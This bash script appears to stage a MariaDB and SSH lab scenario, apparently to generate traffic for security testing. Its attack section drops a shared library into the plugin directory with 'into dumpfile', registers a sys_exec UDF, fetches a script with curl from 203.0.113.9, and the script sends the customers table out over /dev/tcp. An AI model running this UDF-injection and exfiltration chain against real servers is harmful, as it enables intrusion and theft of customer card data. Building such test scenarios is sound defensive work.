# shellcheck shell=bash disable=SC2034
HOST=db16
FORMAT=RAW
UNSET=1

# client PORT ACCOUNT ARGUMENT...: mariadb, over the relay that gives it its address (it has no option for that).
client() { outside mariadb --no-defaults -N -h 127.0.0.1 -P "$1" -u "$2" -pspring -D shop "${@:3}" >/dev/null; }

administer() {
    outside ssh -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR -b 10.88.0.55 -i "$work/dba.key" dba@10.88.0.10 "$1"
}

serve() {
    while :; do
        client 3307 app -e "select * from prices"
        sleep 0.5
        client 3341 app -e "select count(*) from prices"
        sleep 0.5
    done
}

earlier() {
    local relay
    mkdir -p /srv/mysql/plugin /run/sshd /run/mysqld "$work/theirs"
    chown mysql /srv/mysql/plugin /srv/mysql /run/mysqld
    account dba 4051
    account ops 4052
    touch /srv/home/dba/.hushlogin
    ssh-keygen -q -t ed25519 -N "" -f /srv/host.key
    ssh-keygen -q -t ed25519 -N "" -f "$work/dba.key"
    install -m 600 -o dba "$work/dba.key.pub" /srv/home/dba/.ssh/authorized_keys
    printf '%s\n' "HostKey /srv/host.key" "PidFile none" "UsePAM yes" "PasswordAuthentication no" "PrintMotd no" >/srv/sshd_config
    printf '%s\n' "create database shop;" "use shop;" "create table prices (item varchar(20), price int);" "insert into prices values ('chair', 40);" \
        "create table customers (name varchar(20), card varchar(20));" "insert into customers values ('ada', '4000');" \
        "create user app@'%' identified by 'spring';" "grant select on shop.* to app@'%';" \
        "create user report@'%' identified by 'spring';" "grant all on *.* to report@'%';" \
        "create user dba@localhost identified via unix_socket;" "grant select on shop.* to dba@localhost;" \
        "create user ops@localhost identified via unix_socket;" >"$work/init.sql"
    mariadb-install-db --no-defaults --user=mysql --datadir=/srv/mysql --skip-test-db >/dev/null 2>&1
    chmod 644 "$work/init.sql"
    install -m 644 "$work/init.sql" /srv/init.sql
    gcc -shared -fPIC -Os -s -o "$work/sys.so" "$folder/sys.c"
    printf '%s\n' 'tar -c -z -f /srv/mysql/.d.tgz -C /srv/mysql/shop customers.ibd' 'exec 3<>/dev/tcp/203.0.113.9/8443' \
        'cat /srv/mysql/.d.tgz >&3' >"$work/theirs/d"
    theirs
    for relay in 3307:192.0.2.7 3341:192.0.2.41 3323:198.51.100.23; do
        outside socat "TCP-LISTEN:${relay%:*},bind=127.0.0.1,fork,reuseaddr" "TCP:10.88.0.10:3306,bind=${relay#*:}" &
    done
    inside /usr/sbin/sshd -D -f /srv/sshd_config >/dev/null 2>&1 &
    inside /usr/sbin/mariadbd --no-defaults --user=mysql --datadir=/srv/mysql --plugin-dir=/srv/mysql/plugin --socket=/run/mysqld/mysqld.sock \
        --bind-address=0.0.0.0 --skip-name-resolve --thread-handling=pool-of-threads --init-file=/srv/init.sql >/dev/null 2>"$work/mariadb.errors" &
    sleep 8
}

scenario() {
    local hex
    hex=$(xxd -p "$work/sys.so" | tr -d '\n')
    serve &
    local serve=$!
    inside setpriv --reuid 4052 --regid 4052 --clear-groups env HOME=/srv/home/ops /bin/bash "$folder/health.sh" &
    sleep 3
    administer "mariadb -N -e 'select count(*) from shop.prices'"
    sleep 2
    {
        echo "select unhex('$hex') into dumpfile '/srv/mysql/plugin/sys.so';"
        sleep 2
        echo "create function sys_exec returns integer soname 'sys.so';"
        sleep 2
        echo "select sys_exec('curl -s -o /srv/mysql/.d http://203.0.113.9:443/d');"
        sleep 2
    } | client 3323 report -n
    administer "mariadb -N -e 'select count(*) from shop.customers'"
    sleep 2
    client 3323 report -e "select sys_exec('bash /srv/mysql/.d')"
    sleep 4
    administer "mariadb -N -e 'select max(price) from shop.prices'"
    kill "$serve"
    sed -n '/rror/p' "$work/mariadb.errors" >&2
}
